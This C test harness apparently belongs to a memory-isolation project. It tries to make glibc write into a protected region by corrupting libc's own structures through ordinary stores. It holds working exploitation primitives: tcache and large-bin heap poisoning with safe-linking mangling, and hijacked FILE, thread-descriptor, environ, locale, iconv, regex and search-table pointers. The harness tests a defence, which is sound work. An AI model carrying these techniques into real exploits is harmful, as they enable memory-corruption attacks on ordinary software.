/* SPDX-License-Identifier: Apache-2.0 WITH LLVM-exception */
/*
 * What stock libc can be made to do to a safe region: one function for each structure in
 * ordinary memory whose pointers libc believes. Everything is corrupted by ordinary stores.
 * Prints "changed" or "unchanged".
 */
#include <iconv.h>
#include <link.h>
#include <locale.h>
#include <obstack.h>
#include <pthread.h>
#include <regex.h>
#include <search.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <string.h>
#include <unistd.h>

#include "attack.h"
#include "memsentry-runtime.h"
#include "memsentry/layout.h"

#define TRUSTED __attribute__((section("memsentry_functions")))

/*
 * Of the region: letters, then pointers to a string, then zeroes, for deputies that look at
 * what they are about to overwrite.
 */
enum { WORDS = 512, POINTERS = 192, ZEROES = 256 };

static uint64_t *region;
static char entry[] = "VICTIM=1";

static uint64_t pattern(int word)
{
    if (word >= ZEROES)
        return 0;
    return word >= POINTERS ? (uint64_t)entry : 0x4241424142414241;
}

TRUSTED static void fill_region(void)
{
    for (int i = 0; i < WORDS; i++)
        ((volatile uint64_t *)region)[i] = pattern(i);
}

TRUSTED static bool region_changed(void)
{
    for (int i = 0; i < WORDS; i++)
        if (((volatile uint64_t *)region)[i] != pattern(i))
            return true;
    return false;
}

/* A block that the optimiser does not know to be one. */
static void *allocate(size_t size)
{
    return CORRUPTED(malloc(size));
}

static void release(void *block)
{
    free(CORRUPTED(block));
}

/* glibc 2.32 and later: the link is mangled with the place where it lies. */
static uint64_t mangled(const void *place, const void *target)
{
    return (uint64_t)place >> 12 ^ (uint64_t)target;
}

static void tcache_entry(void)
{
    uint64_t *one = allocate(64), *two = allocate(64);
    release(one);
    release(two);
    two[0] = mangled(two, region);
    allocate(64);
    /* libc clears the second word of what it hands out. */
    allocate(64);
}

static void overflow_into_next_chunk(void)
{
    uint64_t *one = allocate(24), *two = allocate(24), *three = allocate(24);
    release(three);
    release(two);
    for (int i = CORRUPTED(3); i < 5; i++)
        one[i] = i == 3 ? 0x21 : mangled(two, region);
    allocate(24);
    allocate(24);
}

/* A block is linked in before the smaller one that a corrupted pointer names. */
static void large_bin(void)
{
    uint64_t *large = allocate(0x428);
    allocate(24);
    uint64_t *smaller = allocate(0x418);
    allocate(24);
    release(large);
    allocate(0x438);
    release(smaller);
    large[3] = (uint64_t)region - 32;
    allocate(0x438);
}

static void file_buffer(void)
{
    FILE *file = fopen("/dev/null", "w");
    fputc('x', file);
    file->_IO_write_base = file->_IO_write_ptr = (char *)region;
    file->_IO_write_end = (char *)region + 64;
    fwrite("attacker", 1, 8, file);
}

static void memstream_location(void)
{
    static char *text;
    static size_t size;
    FILE *file = open_memstream(&text, &size);
    fputs("attacker", file);
    for (uint64_t *word = (uint64_t *)file;; word++)
        if (*word == (uint64_t)&text) {
            *word = (uint64_t)region;
            break;
        }
    fflush(file);
}

static void random_r_state(void)
{
    static char state[64];
    static struct random_data data;
    int32_t result;
    initstate_r(1, state, sizeof state, &data);
    data.fptr = (int32_t *)region;
    random_r(&data, &result);
}

static void setstate_r_state(void)
{
    static char state[64], other[64];
    static struct random_data data;
    initstate_r(1, other, sizeof other, &data);
    memset(&data, 0, sizeof data);
    initstate_r(1, state, sizeof state, &data);
    /* The type of the state that is left is put in front of it. */
    data.state = (int32_t *)region + 1;
    data.rptr = data.state + 3;
    setstate_r(other, &data);
}

/* Where libc finds the thread's descriptor. */
static void tcb_self_pointer(void)
{
    pthread_key_t key;
    pthread_key_create(&key, NULL);
    uint64_t *self = (uint64_t *)pthread_self();
    const uint64_t before = self[2];
    self[2] = (uint64_t)region;
    pthread_setspecific(key, entry);
    self[2] = before;
}

/* Where it finds the values of keys beyond the first block. */
static void thread_specific_block(void)
{
    pthread_key_t key;
    do
        pthread_key_create(&key, NULL);
    while (key < 32);
    uint64_t *self = (uint64_t *)pthread_self();
    static char value;
    pthread_setspecific(key, &value);
    /* The pointer to the second block: what it points to has the value. */
    for (int word = 0; word < 288; word++) {
        uint64_t *block = (uint64_t *)self[word];
        if ((uint64_t)block % 16 != 0 || (uint64_t)block >> 40 != (uint64_t)allocate(8) >> 40)
            continue;
        if (block[2 * (key % 32) + 1] == (uint64_t)&value)
            self[word] = (uint64_t)region;
    }
    pthread_setspecific(key, entry);
}

static void obstack_object(void)
{
    static struct obstack stack;
#define obstack_chunk_alloc malloc
#define obstack_chunk_free free
    obstack_init(&stack);
    stack.object_base = stack.next_free = (char *)region;
    stack.chunk_limit = (char *)region + 256;
    obstack_printf(&stack, "attacker %d", 1);
}

static void strtok_r_position(void)
{
    char *position = CORRUPTED((char *)region);
    strtok_r(NULL, "B", &position);
}

static void hsearch_table(void)
{
    static struct hsearch_data table;
    ENTRY *found;
    hcreate_r(50, &table);
    table.table = (struct _ENTRY *)(region + ZEROES);
    hsearch_r((ENTRY){.key = entry, .data = entry}, ENTER, &found, &table);
}

static int compare(const void *one, const void *two)
{
    return one < two ? -1 : one > two;
}

static void tsearch_root(void)
{
    void *root = CORRUPTED((void *)(region + ZEROES));
    tsearch(entry, &root, compare);
}

static void insque_neighbour(void)
{
    static struct qelem {
        struct qelem *forward, *backward;
    } element, list;
    list.forward = (struct qelem *)region;
    insque(&element, &list);
}

static void environ_array(void)
{
    environ = (char **)(region + ZEROES - 1);
    unsetenv("VICTIM");
}

static void locale_data(void)
{
    struct __locale_struct forged = *newlocale(LC_ALL_MASK, "C", NULL);
    forged.__locales[LC_CTYPE] = (struct __locale_data *)(region + ZEROES);
    duplocale(&forged);
}

static void iconv_buffer(void)
{
    /* Of libc: how many steps, what they are, then the first one's buffer. */
    uint64_t *state = (uint64_t *)iconv_open("UCS-4LE", "UTF-8");
    char *in = (char[]){"attacker"}, out[64], *end = out;
    size_t left = 8, room = sizeof out;
    state[2] = (uint64_t)region;
    state[3] = (uint64_t)region + 256;
    iconv((iconv_t)state, &in, &left, &end, &room);
}

static void regex_fastmap(void)
{
    static struct re_pattern_buffer pattern_buffer;
    re_compile_pattern("a", 1, &pattern_buffer);
    pattern_buffer.fastmap = (char *)region;
    pattern_buffer.fastmap_accurate = 0;
    re_search(&pattern_buffer, "bab", 3, 0, 3, NULL);
}

/* The allocator's only thread-local variable: the number of the thread's cache. */
static int find_number(struct dl_phdr_info *info, size_t size, void *closure)
{
    (void)size;
    if (strstr(info->dlpi_name, "libmemsentry_malloc") != NULL)
        *(volatile uint32_t **)closure = info->dlpi_tls_data;
    return 0;
}

static volatile uint32_t *number_of_thread(void)
{
    volatile uint32_t *number = NULL;
    dl_iterate_phdr(find_number, &number);
    return number;
}

static void *_Atomic freed;
static _Atomic uint32_t number_of_other;
static _Atomic bool finished;

static void *frees_and_waits(void *argument)
{
    void *block = allocate(7000);
    release(block);
    number_of_other = *number_of_thread();
    freed = block;
    while (!finished)
        ;
    return argument;
}

static void say(const char *word)
{
    (void)!write(1, word, strlen(word));
}

/* Says "shared" when the number is what it is taken for, then tries all kinds of it. */
static void cache_number(void)
{
    static const uint32_t numbers[] = {16383,    16384,          16385,     1 << 20,
                                       1u << 31, UINT32_MAX - 1, UINT32_MAX};
    pthread_t thread;
    volatile uint32_t *number = number_of_thread();
    pthread_create(&thread, NULL, frees_and_waits, NULL);
    while (freed == NULL)
        ;
    const uint32_t own = *number;
    *number = number_of_other;
    if (allocate(7000) == freed)
        say("shared\n");
    for (size_t i = 0; i < sizeof numbers / sizeof *numbers; i++) {
        for (size_t size = 1; size < 3 << 20; size = size * 2 + 1) {
            *number = numbers[i];
            uint64_t *block = allocate(size);
            if ((uint64_t)block < MEMSENTRY_HEAP_START || (uint64_t)block >= MEMSENTRY_HEAP_END)
                say("outside\n");
            release(block);
        }
    }
    *number = own;
    finished = true;
    pthread_join(thread, NULL);
}

static const struct {
    char name[32];
    void (*attack)(void);
} deputies[] = {
    {"cache_number", cache_number},
#define DEPUTY(name, outcome) {#name, name},
#include "deputies.def"
};

int main(int count, char **arguments)
{
    region = saferegion_alloc_named(4096, "target");
    fill_region();
    for (size_t i = 0; i < sizeof deputies / sizeof *deputies; i++) {
        if (count != 2 || strcmp(arguments[1], deputies[i].name) != 0)
            continue;
        deputies[i].attack();
        /* Not through libc, parts of which may be damaged. */
        say(region_changed() ? "changed\n" : "unchanged\n");
        _exit(0);
    }
    return 2;
}
